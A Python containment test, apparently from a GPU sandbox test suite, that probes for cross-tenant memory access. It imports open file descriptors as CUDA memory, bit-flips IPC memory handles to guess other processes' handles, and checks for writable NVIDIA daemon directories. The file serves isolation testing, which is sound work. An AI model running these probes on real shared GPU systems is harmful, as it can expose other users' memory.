"""class: looks for a way to map memory of others: descriptors left open, guessed IPC handles, a multi-process server
expect: contained | the arena's descriptors are closed after mapping, and nobody shares a namespace with a tenant
on: add:size=524288
Not yet seen on a device."""

import os
import sys

import torch
from cuda.bindings import driver

HANDLE = driver.CUmemAllocationHandleType.CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR
LAZY = driver.CUipcMem_flags.CU_IPC_MEM_LAZY_ENABLE_PEER_ACCESS


def effect(text):
    sys.stderr.write(f"ATTACK-EFFECT g11_foreign_handles: {text}\n")


torch.zeros(1, device="cuda")
for name in os.listdir("/proc/self/fd"):
    error, *_ = driver.cuMemImportFromShareableHandle(int(name), HANDLE)
    if error == driver.CUresult.CUDA_SUCCESS:
        effect(f"descriptor {name} is device memory")
error, own = driver.cuIpcGetMemHandle(torch.zeros(1 << 20, device="cuda").data_ptr())
if error == driver.CUresult.CUDA_SUCCESS:
    for position in range(0, 64, 8):
        guess = driver.CUipcMemHandle()
        raw = bytearray(own.reserved)
        raw[position] ^= 1
        guess.reserved = bytes(raw)
        error, *_ = driver.cuIpcOpenMemHandle(guess, LAZY)
        if error == driver.CUresult.CUDA_SUCCESS:
            effect(f"an IPC handle changed at byte {position} opens somebody's memory")
for path in ("/tmp/nvidia-mps", "/var/run/nvidia-persistenced", "/var/run/nvidia-fabricmanager", "/dev/nvidia-caps"):
    if os.path.isdir(path) and any(os.access(os.path.join(path, name), os.W_OK) for name in os.listdir(path)):
        effect(f"{path} can be written")


def custom_kernel(data):
    x, out = data
    return torch.add(x, 1.0, out=out)
